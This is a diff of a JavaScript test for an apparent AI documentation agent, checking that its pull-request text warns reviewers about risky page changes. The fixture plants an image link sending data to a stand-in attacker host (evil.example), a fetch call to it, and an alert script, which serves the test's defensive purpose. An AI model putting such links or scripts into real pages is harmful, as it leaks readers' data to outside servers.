@@ -242,11 +242,11 @@ describe('what the model says to people', () => {
       '---\ntitle: Log\n---\n\n![a](https://evil.example/?d=everything)\n\n{fetch("https://evil.example")}\n';
     const outcome = await agent.run(at, [[write('guides/log.mdx', page), write('theme.js', 'alert(1)\n')], 'Improve']);
     const { body } = outcome.pullRequest!;
-    expect(body).toMatch(/^Please look closely:/);
+    expect(body).toMatch(/^Please review:/);
     expect(body).toMatch(/^- `guides\/log\.mdx` has browsers load from servers .*: `evil\.example`\.$/m);
     expect(body).toMatch(/^- `guides\/log\.mdx` has new code/m);
     expect(body).toMatch(/^- `theme\.js` is code/m);
-    expect(body).not.toContain('The docs checks still find');
+    expect(body).not.toContain('Remaining docs problems');
   });
 
   test('its words, page texts and prompts are in no log line and no history beyond what the docs say', async () => {
